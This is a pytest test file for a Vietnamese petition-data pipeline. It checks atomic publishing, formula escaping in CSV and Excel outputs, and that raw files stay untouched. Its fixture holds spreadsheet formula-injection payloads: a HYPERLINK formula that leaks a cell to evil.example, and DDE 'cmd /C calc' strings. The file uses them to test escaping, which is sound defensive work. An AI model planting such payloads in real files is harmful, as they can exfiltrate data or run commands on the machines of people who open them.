"""Nothing lost, nothing half-written (issue 5): atomic publish, formula
escaping in CSV and Excel outputs, raw files never modified."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pandas as pd
import pytest
from builders import GOOD_ROWS, HEADER, petitions_sheet, write_xlsx

from pipeline.outputs import publish as publish_module
from pipeline.outputs.publish import escape_formulas, publish
from pipeline.run import run_pipeline

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def raw(tmp_path) -> Path:
    root = tmp_path / "raw"
    rows = [
        *GOOD_ROWS,
        [5, "01/06/2020", "Hồ Văn Tám", "", INJECTED, "Đất đai", "Lưu đơn"],
        [6, "02/06/2020", "Hồ Văn Chín", "", "+cmd|' /C calc'!A0", "Đất đai", "Lưu đơn"],
        [7, "03/06/2020", "Hồ Văn Mười", "", "@SUM(1+1)*cmd|' /C calc'!A0", "Đất đai", "Lưu đơn"],
        [8, "04/06/2020", "Hồ Văn Một", "", "-2+3", "Đất đai", "Lưu đơn"],
    ]
    write_xlsx(root / "2020/hdnd/don.xlsx", {"Đơn": petitions_sheet(rows, HEADER)})
    return root


def run(raw: Path, tmp_path: Path):
    return run_pipeline(raw, secrets_dir=tmp_path / "secrets", cache_dir=None)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def sha256_tree(folder: Path) -> dict[str, tuple[str, float]]:
    return {
        str(p.relative_to(folder)): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime)
        for p in sorted(folder.rglob("*")) if p.is_file()
    }


# --------------------------------------------------------------------------- formula injection


def test_rejected_formula_text_is_escaped_in_rejects_csv(raw, tmp_path):
    result = run(raw, tmp_path)
    assert INJECTED in result.rejects["value"].tolist()  # in memory: as written
    out = tmp_path / "out"
    publish(result, out)
    rejects = pd.read_csv(out / "rejects.csv", encoding="utf-8-sig", keep_default_na=False)
    values = rejects[rejects["column"] == "Loại đơn"]["value"].tolist()
    assert values == [
        "'" + INJECTED,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3",
    ]
    # no CSV cell anywhere starts with a formula character
    for path in out.glob("*.csv"):
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in frame.columns:
            assert not frame[col].str.startswith(("=", "+", "@")).any(), (path.name, col)


def test_escape_formulas_leaves_numbers_and_plain_text():
    frame = pd.DataFrame({"a": ["=1+1", "text", "-x", None, "a=b"], "n": [-1, 2, 3, 4, 5]})
    out = escape_formulas(frame)
    got = out["a"].tolist()
    assert got[:3] + got[4:] == ["'=1+1", "text", "'-x", "a=b"] and pd.isna(got[3])
    assert out["n"].tolist() == [-1, 2, 3, 4, 5]  # numbers are numbers, negative ones included
    assert frame["a"].iloc[0] == "=1+1"  # the input is not modified


def test_excel_export_writes_formula_text_as_text(tmp_path):
    excel = pytest.importorskip("pipeline.pages.workbook")
    from openpyxl import load_workbook

    indicators = pd.DataFrame([{
        "year": 2020, "body": "hdnd", "indicator": "x.y", "value": 1, "unit_vi": "đơn",
        "label_vi": INJECTED, "sentence_vi": "=1+1",
    }])
    path = tmp_path / "book.xlsx"
    try:
        excel.write_workbook(indicators, path, [2020])
    except Exception as exc:  # the workbook's signature may evolve; the point is the cell type
        pytest.skip(f"pipeline.pages.workbook.write_workbook changed its interface: {exc}")
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)


# --------------------------------------------------------------------------- atomic publish


def _first_good_publish(raw, tmp_path):
    result = run(raw, tmp_path)
    out = tmp_path / "out"
    (out).mkdir()
    (out / "README.md").write_text("giữ nguyên", encoding="utf-8")
    publish(result, out)
    return result, out


def _no_staging_left(out: Path) -> None:
    leftovers = [p.name for p in out.iterdir() if p.name.startswith((".staging-", ".old-"))]
    assert leftovers == []


def test_failure_while_writing_leaves_previous_outputs(raw, tmp_path, monkeypatch):
    result, out = _first_good_publish(raw, tmp_path)
    before = snapshot(out)

    def broken(frame, path):
        raise OSError("disk full (simulated)")

    monkeypatch.setattr(publish_module, "_to_parquet", broken)
    result.indicators = result.indicators.assign(value=result.indicators["value"] + 1)
    with pytest.raises(OSError, match="simulated"):
        publish(result, out)
    assert snapshot(out) == before
    _no_staging_left(out)


def test_failure_in_the_csv_writer_leaves_previous_outputs(raw, tmp_path, monkeypatch):
    result, out = _first_good_publish(raw, tmp_path)
    before = snapshot(out)
    calls = {"n": 0}
    real = publish_module._write_csv

    def broken(frame, path):
        calls["n"] += 1
        if calls["n"] == 4:
            raise RuntimeError("writer crashed (simulated)")
        real(frame, path)

    monkeypatch.setattr(publish_module, "_write_csv", broken)
    with pytest.raises(RuntimeError, match="simulated"):
        publish(result, out)
    assert snapshot(out) == before
    _no_staging_left(out)


def test_failure_while_moving_into_place_leaves_previous_outputs(raw, tmp_path, monkeypatch):
    """The move phase must be all or nothing too: a crash after some files
    were replaced would leave this run's indicators beside last run's lineage."""
    result, out = _first_good_publish(raw, tmp_path)
    before = snapshot(out)
    real = os.replace
    calls = {"n": 0}

    def flaky(src, dst):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("power cut (simulated)")
        return real(src, dst)

    monkeypatch.setattr(publish_module.os, "replace", flaky)
    result.indicators = result.indicators.assign(value=result.indicators["value"] + 1)
    try:
        publish(result, out)
    except OSError:
        pass
    monkeypatch.setattr(publish_module.os, "replace", real)
    assert calls["n"] >= 3, "the simulated crash did not happen"
    assert snapshot(out) == before
    _no_staging_left(out)


def test_failed_run_does_not_publish(raw, tmp_path):
    """The CLI publishes only after the run succeeded: a strict run that stops leaves the outputs."""
    result, out = _first_good_publish(raw, tmp_path)
    before = snapshot(out)
    (raw / "2020/hdnd/hong.xlsx").write_bytes(b"broken")
    from pipeline.read.files import UnreadableFile

    with pytest.raises(UnreadableFile):
        run_pipeline(raw, secrets_dir=tmp_path / "secrets", cache_dir=None, strict=True)
    assert snapshot(out) == before


def test_publish_replaces_tables_of_registers_gone(raw, tmp_path):
    result, out = _first_good_publish(raw, tmp_path)
    assert (out / "tables" / "petitions.parquet").exists()
    result.tables = {}
    publish(result, out)
    assert not (out / "tables" / "petitions.parquet").exists()
    assert (out / "README.md").read_text(encoding="utf-8") == "giữ nguyên"
    _no_staging_left(out)


# --------------------------------------------------------------------------- lineage beyond Excel's rows


def test_lineage_csv_only_when_excel_opens_it_whole():
    from pipeline.outputs.outdir import EXCEL_MAX_ROWS, lineage_csv_fits

    assert EXCEL_MAX_ROWS == 1_048_576
    assert lineage_csv_fits(1_048_575)  # and the header row: exactly one sheet
    assert not lineage_csv_fits(1_048_576)


def test_lineage_too_long_for_excel_is_parquet_only_and_says_so(raw, tmp_path, monkeypatch):
    from pipeline.console import summary_lines
    from pipeline.outputs import outdir
    from pipeline.run import summarise

    result, out = _first_good_publish(raw, tmp_path)
    assert (out / "lineage.csv").exists()  # a run that fits: both
    rows = len(result.lineage)
    monkeypatch.setattr(outdir, "EXCEL_MAX_ROWS", rows)  # one row short of the lineage and its header
    publish(result, out)
    assert not (out / "lineage.csv").exists(), "the earlier run's lineage.csv stays beside this run's outputs"
    assert len(pd.read_parquet(out / "lineage.parquet")) == rows
    text = "\n".join(summary_lines(summarise(result), out))
    assert f"Không ghi lineage.csv: {rows} dòng nguồn" in text and "lineage.parquet" in text
    _no_staging_left(out)


def test_a_failed_publish_brings_back_the_lineage_csv_it_took_away(raw, tmp_path, monkeypatch):
    from pipeline.outputs import outdir

    result, out = _first_good_publish(raw, tmp_path)
    before = snapshot(out)
    monkeypatch.setattr(outdir, "EXCEL_MAX_ROWS", 1)
    real = os.replace
    calls = {"n": 0}

    def flaky(src, dst):
        calls["n"] += 1
        if calls["n"] == 3:  # after lineage.csv was moved aside
            raise OSError("power cut (simulated)")
        return real(src, dst)

    monkeypatch.setattr(publish_module.os, "replace", flaky)
    with pytest.raises(OSError):
        publish(result, out)
    monkeypatch.setattr(publish_module.os, "replace", real)
    assert snapshot(out) == before
    _no_staging_left(out)


# --------------------------------------------------------------------------- raw files


def test_raw_files_are_never_modified(raw, tmp_path):
    # a messy tree: good, bad, duplicate, CSV, unknown format
    (raw / "2020/hdnd/hong.xlsx").write_bytes(b"broken")
    (raw / "2020/hdnd/copy.xlsx").write_bytes((raw / "2020/hdnd/don.xlsx").read_bytes())
    (raw / "2020/hdnd/web.csv").write_text("Ngày đăng;Loại;Tiêu đề\n02/03/2020;Tin;Kỳ họp\n", encoding="utf-8")
    (raw / "2020/hdnd/note.pdf").write_bytes(b"%PDF")
    before = sha256_tree(raw)
    names_before = sorted(p.name for p in raw.rglob("*"))
    result = run(raw, tmp_path)
    publish(result, tmp_path / "out")
    assert sha256_tree(raw) == before
    assert sorted(p.name for p in raw.rglob("*")) == names_before  # nothing created beside them


def test_sample_raw_files_are_unchanged_by_a_run(tmp_path):
    from pipeline import config

    before = sha256_tree(config.RAW_DIR)
    result = run_pipeline(config.RAW_DIR, secrets_dir=tmp_path / "secrets", cache_dir=tmp_path / "cache")
    publish(result, tmp_path / "out")
    assert sha256_tree(config.RAW_DIR) == before
    # the run summary's accounting holds for every sheet
    acc = result.accounting
    parts = acc[["accepted", "rejected", "total_rows", "blank_rows", "ignored_rows"]].sum(axis=1)
    assert (acc["rows_read"] == parts).all()
